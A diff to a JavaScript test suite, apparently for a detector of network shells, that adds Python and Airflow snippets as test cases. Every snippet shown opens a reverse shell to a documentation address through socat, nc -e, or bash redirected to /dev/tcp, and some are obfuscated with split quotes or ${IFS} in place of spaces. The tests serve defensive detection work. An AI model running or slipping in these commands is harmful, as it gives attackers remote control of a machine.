@@ -24,6 +24,11 @@ describe("a shell on the network", () => {
       "socat",
       'from airflow.providers.standard.operators.bash import BashOperator\nBashOperator(task_id="x", bash_command="socat tcp:203.0.113.7:4444 exec:sh")\n',
     ],
+    ["a program in the worker's place", 'import os\nos.execvp("nc", ["x", "-e", "/bin/sh", "203.0.113.7", "4444"])\n'],
+    [
+      "a program by its words",
+      'import os\nos.spawnl(os.P_NOWAIT, "/bin/bash", "x", "-c", "sh -i >& /dev/tcp/203.0.113.7/4444")\n',
+    ],
     ["quotes within", bash("b'a'sh \\\"-i\\\" >& /dev/t'c'p/203.0.113.7/4444 0>&1")],
     ["no spaces", bash(`bash\${IFS}-i>&/dev/tcp/203.0.113.7/4444`)],
     ["a shell that reads from the network", bash("/bin/bash -l > /dev/tcp/203.0.113.7/4444 0<&1")],
